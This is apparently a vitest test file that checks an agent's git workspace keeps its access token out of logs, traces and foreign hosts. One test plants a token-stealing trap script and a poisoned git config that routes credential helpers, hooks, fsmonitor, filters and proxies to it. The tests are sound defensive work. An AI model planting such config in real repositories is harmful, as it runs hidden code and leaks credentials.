import { execFileSync } from 'node:child_process';
import { appendFile, mkdir, readdir, readFile, rm, stat, symlink, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { startForeignServer } from '../../test/foreign-server.ts';
import {
  listCommandLines,
  listEnvironments,
  startWorkspaceBed,
  bedToken as token,
  type WorkspaceBed,
} from '../testing/workspace-bed.ts';
import type { TaskWorkspace } from '../worktrees/task-workspace.ts';
import type { GitWorkspacesOptions } from '../worktrees/workspaces-options.ts';
import { formatLogin, gitEnvironment } from './git-environment.ts';
import { runGit } from './run-git.ts';

let bed: WorkspaceBed;

beforeEach(async () => {
  bed = await startWorkspaceBed();
});

afterEach(() => bed.close());

const open = (options?: Partial<GitWorkspacesOptions>) => bed.workspaces(options).open(bed.task());

async function changeAndPush(workspace: TaskWorkspace): Promise<void> {
  await writeFile(join(workspace.path, 'README.md'), `changed ${Math.random()}\n`);
  await workspace.commitAll(() => 'change');
  await workspace.push({ allowance: { paths: ['.gitattributes'], patches: [], secrets: [] } });
}

describe('the token', () => {
  it('logs in, and is in no file, argument, environment or commit [NX-204]', async () => {
    const commandLines: string[] = [];
    const environments: string[] = [];
    bed.server.intercept = async () => {
      commandLines.push(...(await listCommandLines()));
      environments.push(...(await listEnvironments()));
      return null;
    };
    await changeAndPush(await open());
    expect(bed.server.logins).toContain(`x-access-token:${token}`);
    expect(commandLines.join('\n')).toContain(`push --porcelain`);
    expect(commandLines.join('\n')).not.toContain(token);
    expect(environments.join('\n')).toContain('GIT_TERMINAL_PROMPT=0');
    expect(environments.join('\n')).not.toContain(token);
    const entries = await readdir(bed.directory, { recursive: true, withFileTypes: true });
    const files = entries
      .filter((entry) => entry.isFile())
      .map((entry) => join(entry.parentPath, entry.name));
    const texts = await Promise.all(files.map((file) => readFile(file, 'latin1')));
    expect(files.length).toBeGreaterThan(5);
    expect(texts.filter((text) => text.includes(token))).toEqual([]);
  });

  it('is removed from what git says when it fails', { tags: ['full'] }, async () => {
    const workspace = await open();
    await writeFile(join(workspace.path, 'README.md'), 'changed\n');
    await workspace.commitAll(() => 'change');
    const hook = join(
      await bed.server.git('acme/shop', 'rev-parse', '--absolute-git-dir'),
      'hooks/pre-receive',
    );
    await writeFile(hook, `#!/bin/sh\necho you sent ${token}; exit 1\n`, { mode: 0o755 });
    const failure = await workspace.push().catch((error: Error) => error);
    expect(String(failure)).toContain('you sent ***');
    expect(String(failure)).not.toContain(token);
  });

  it('does not follow a redirect to another host', async () => {
    const other = await startForeignServer();
    bed.server.intercept = async () => ({
      status: 302,
      headers: { location: `${other.url}/acme/shop.git/info/refs` },
    });
    await expect(open()).rejects.toMatchObject({ code: 'not-found' });
    expect(other.requests).toEqual([]);
    other.close();
  });

  it('is in no trace that the environment of the daemon asks git for [NX-204]', async () => {
    const trace = join(bed.directory, 'trace');
    const names = ['GIT_TRACE', 'GIT_TRACE_CURL', 'GIT_TRACE_PACKET', 'GIT_TRACE2_EVENT', 'GIT_TRACE_SETUP'];
    const traced = Object.fromEntries(names.map((name) => [name, trace]));
    const verbose = { GIT_CURL_VERBOSE: '1', GIT_TRACE_REDACT: '0', GIT_TRACE_CURL_NO_DATA: '0' };
    const said: string[] = [];
    bed.server.intercept = async () => {
      said.push(...(await listEnvironments()));
      return null;
    };
    const environment = { ...process.env, ...traced, ...verbose };
    await changeAndPush(await open({ environment }));
    await expect(stat(trace)).rejects.toThrow('ENOENT');
    expect(said.join('\n')).toContain('GIT_TERMINAL_PROMPT=0');
    expect(said.join('\n')).not.toMatch(/GIT_TRACE|GIT_CURL_VERBOSE/);
  });

  it('is asked for again where the server refused it, once, and the command is repeated [NX-204]', async () => {
    const refusals: (string | undefined)[] = [];
    let current = 'ghp_ended0123456789';
    const renewing = await open({
      token: async ({ refused } = {}) => {
        if (refused !== undefined) refusals.push(refused);
        if (refused === current) current = token;
        return current;
      },
    });
    expect(refusals).toEqual(['ghp_ended0123456789']);
    current = 'ghp_ended-again0123456789';
    await changeAndPush(renewing);
    expect(refusals).toEqual(['ghp_ended0123456789', 'ghp_ended-again0123456789']);
    const asked = bed.server.logins.length;
    const revoked = open({ token: () => 'ghp_revoked0123456789' });
    await expect(revoked).rejects.toMatchObject({ code: 'unauthorized' });
    expect(bed.server.logins.length - asked).toBeLessThanOrEqual(3);
  });

  it('goes with the user name that is given beside it, and is asked for by the address of the repository', async () => {
    const asked: (string | undefined)[] = [];
    await open({
      token: async ({ cloneUrl } = {}) => {
        asked.push(cloneUrl);
        return { username: 'oauth2', token };
      },
    });
    expect(bed.server.logins).toContain(`oauth2:${token}`);
    expect(new Set(asked)).toEqual(new Set([bed.task().cloneUrl]));
  });
});

describe('a git directory that a command has poisoned', () => {
  it('takes the token nowhere and runs nothing', { tags: ['full'] }, async () => {
    const other = await startForeignServer();
    const protection = () => ({ rules: { '.gitattributes': 'allow' as const }, readsFile: true });
    const workspace = await open({ protection });
    const mirror = workspace.gitDirectories[0] ?? '';
    const trap = join(bed.directory, 'trap.sh');
    const ran = join(bed.directory, 'ran');
    await writeFile(trap, `#!/bin/sh\necho "$0 $AGENT_GIT_TOKEN" >> ${ran}\ncat\n`, { mode: 0o755 });
    const poison = `
[url "${other.url}/"]
\tinsteadOf = ${bed.server.url}/
\tpushInsteadOf = ${bed.server.url}/
[credential]
\thelper = ${trap}
[core]
\thooksPath = ${bed.directory}/hooks
\tfsmonitor = ${trap}
\taskPass = ${trap}
\tpager = ${trap}
\tgitProxy = ${trap}
\tsshCommand = ${trap}
\tworktree = /
[http]
\tproxy = ${other.url}
\tsslVerify = false
[remote "origin"]
\turl = ${other.url}/x.git
[filter "evil"]
\tclean = ${trap}
\tsmudge = ${trap}
[gpg]
\tprogram = ${trap}
[commit]
\tgpgSign = true
[include]
\tpath = ${bed.directory}/more
[extensions]
\tworktreeConfig = true
`;
    await appendFile(join(mirror, 'config'), poison);
    await writeFile(join(mirror, 'worktrees/run-1/config.worktree'), poison);
    await writeFile(join(bed.directory, 'more'), poison);
    await mkdir(join(mirror, 'info'), { recursive: true });
    await writeFile(join(mirror, 'info/attributes'), '* filter=evil\n');
    await writeFile(join(workspace.path, '.gitattributes'), '* filter=evil diff=evil merge=evil\n');
    for (const hooks of [join(mirror, 'hooks'), join(bed.directory, 'hooks')]) {
      await mkdir(hooks, { recursive: true });
      for (const name of [
        'pre-commit',
        'pre-push',
        'post-checkout',
        'reference-transaction',
        'post-index-change',
      ]) {
        await symlink(trap, join(hooks, name));
      }
    }
    await changeAndPush(workspace);
    await changeAndPush(await open({ protection }));
    expect(await bed.server.git('acme/shop', 'rev-list', '--count', 'main..agent/issue-1-fix')).toBe('2');
    await expect(stat(ran)).rejects.toThrow('ENOENT');
    expect(other.requests).toEqual([]);
    other.close();
  });

  it('is not believed when the worktree points to a git directory of its own', async () => {
    const workspace = await open();
    const own = join(bed.directory, 'own');
    execFileSync('git', ['init', '--quiet', own]);
    execFileSync('git', ['-C', own, 'config', 'core.fsmonitor', `touch ${bed.directory}/ran`]);
    await rm(join(workspace.path, '.git'));
    await writeFile(join(workspace.path, '.git'), `gitdir: ${own}/.git\n`);
    await writeFile(join(workspace.gitDirectories[0] ?? '', 'worktrees/run-1/commondir'), `${own}/.git\n`);
    await changeAndPush(workspace);
    expect(await bed.server.git('acme/shop', 'rev-list', '--count', 'main..agent/issue-1-fix')).toBe('1');
    await expect(stat(join(bed.directory, 'ran'))).rejects.toThrow('ENOENT');
  });

  it('does not get the token by asking for it from another host [NX-204]', async () => {
    const identity = { name: '', email: '' };
    const git = { gitDirectory: bed.directory, commonDirectory: bed.directory, workTree: null, branch: null };
    const server = new URL('https://example.com/a.git');
    const environment = gitEnvironment(git, { server, identity, now: 0, inherited: process.env });
    const ask = async (address: string) => {
      const { stdout } = await runGit({
        gitPath: 'git',
        args: ['credential', 'fill'],
        environment,
        directory: bed.directory,
        input: `url=${address}\n\n`,
        login: formatLogin({ username: 'x', token }),
        timeoutMs: 20_000,
        remote: false,
      });
      return /^password=(.*)$/m.exec(stdout)?.[1] ?? 'refused';
    };
    expect(await ask('https://example.com/b/c.git')).toBe(token);
    for (const other of [
      'https://evil.example',
      'https://example.com.evil',
      'http://example.com',
      'https://example.com:444',
    ])
      expect(await ask(`${other}/a.git`)).toBe('refused');
  });
});
